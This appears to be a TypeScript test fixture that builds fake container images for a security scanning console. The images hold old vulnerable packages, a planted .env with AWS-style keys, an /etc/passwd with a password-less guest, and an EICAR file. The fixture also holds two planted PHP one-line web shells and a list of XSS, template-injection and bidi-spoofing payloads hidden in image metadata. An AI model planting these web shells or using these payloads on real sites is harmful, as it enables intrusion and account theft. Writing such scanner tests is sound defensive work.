import { installed, toyDebianLayer } from '../../support/e0-debian.ts';
import { eicar } from '../../support/malware-samples.ts';
import { tar } from '../../support/test-image.ts';
import type { LayerTar, LayoutImage } from './shared-layout.ts';

/** An image of the console's world, with the repository it belongs to. */
export interface ConsoleImage extends LayoutImage {
  readonly repository: string;
}

const npm = (name: string, version: string): Record<string, string> => ({
  [`srv/app/node_modules/${name}/package.json`]: JSON.stringify({ name, version, license: 'MIT' }),
});
const python = (name: string, version: string): Record<string, string> => ({
  [`usr/local/lib/python3.9/site-packages/${name}-${version}.dist-info/METADATA`]: `Metadata-Version: 2.1\nName: ${name}\nVersion: ${version}\n`,
});

const web = tar({
  ...npm('lodash', '4.17.15'),
  ...npm('minimist', '0.0.8'),
  ...npm('express', '4.16.0'),
  ...npm('ws', '7.4.0'),
  'srv/app/package.json': JSON.stringify({ name: 'shop-web', version: '1.4.2', private: true }),
});
const api = tar({
  ...python('Django', '2.2.0'),
  ...python('requests', '2.19.1'),
  ...python('PyYAML', '5.1'),
  'srv/api/.env':
    'AWS_ACCESS_KEY_ID=AKIAQ4VXWTNM6KDLZR7J\nAWS_SECRET_ACCESS_KEY=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\n',
});
const worker = tar({
  'etc/passwd': 'root:x:0:0:root:/root:/bin/bash\nguest::1000:1000::/home/guest:/bin/sh\n',
  'srv/www/page.php': `<?php @ev${'al'}($_POST["k"]);`,
  'srv/files/test.com': eicar,
});

/** Text that would do something in a page that writes it as HTML, a link, a style or a template; for names and labels. */
export const scriptTexts: readonly string[] = [
  '<img src=x onerror="window.__pwned=1">',
  '<script>window.__pwned=1</script>',
  '"><svg onload=window.__pwned=1>',
  'javascript:window.__pwned=1',
  '<style>*{display:none}</style>',
  '<a href="javascript:window.__pwned=1">click</a>',
  '{{constructor.constructor("window.__pwned=1")()}}',
  'user\u202etxt.exe\u2066 bidi',
  '<iframe srcdoc="<script>parent.__pwned=1</script>">',
  `long-${'x'.repeat(4000)}`,
];

const hostile: ConsoleImage = {
  repository: 'hostile/text',
  tag: '1.0',
  layers: [
    toyDebianLayer(
      scriptTexts.map((text, index) => installed(`bad${index}`, '1.0-1', `Homepage: ${text}\nTag: ${text}\n`)).join(''),
      {
        'srv/app/node_modules/evil/package.json': JSON.stringify({
          name: '<img src=x onerror=window.__pwned=1>',
          version: '1.0.0',
        }),
        'srv/app/node_modules/evil2/package.json': JSON.stringify({ name: 'lodash', version: '4.17.15' }),
        'srv/<img src=x onerror=window.__pwned=1>/shell.php': `<?php @ev${'al'}($_POST["<b>k</b>"]);`,
      },
    ),
  ],
  createdBy: [`RUN echo ${scriptTexts.slice(0, 9).join(' ')}`],
  author: scriptTexts[0] ?? '',
  config: {
    Env: ['PATH=/bin', `MOTD=${scriptTexts[1]}`],
    Labels: Object.fromEntries(scriptTexts.map((text, index) => [`${text.slice(0, 200)}-${index}`, text])),
  },
};

/** The images of the console's world over a real Debian root file system: what a small team has, and what an attacker makes. */
export function consoleImages(debian: LayerTar): readonly ConsoleImage[] {
  const base = { createdBy: ['ADD rootfs.tar /'] };
  const on = (instruction: string) => ({ createdBy: ['ADD rootfs.tar /', instruction] });
  return [
    { repository: 'platform/debian', tag: '11', layers: [debian], ...base },
    {
      ...{ repository: 'shop/web', tag: '1.4.2', layers: [debian, web], ...on('COPY . /srv/app') },
      config: { User: 'root', ExposedPorts: { '8080/tcp': {} }, Labels: { team: 'storefront' } },
    },
    { repository: 'shop/api', tag: '2.0.1', layers: [debian, api], ...on('RUN pip install -r requirements.txt') },
    { repository: 'shop/worker', tag: '0.9', layers: [debian, worker], ...on('COPY files /srv') },
    { repository: 'tools/empty', tag: 'latest', layers: [tar({ 'data.txt': 'nothing to run here\n' })] },
    hostile,
  ];
}
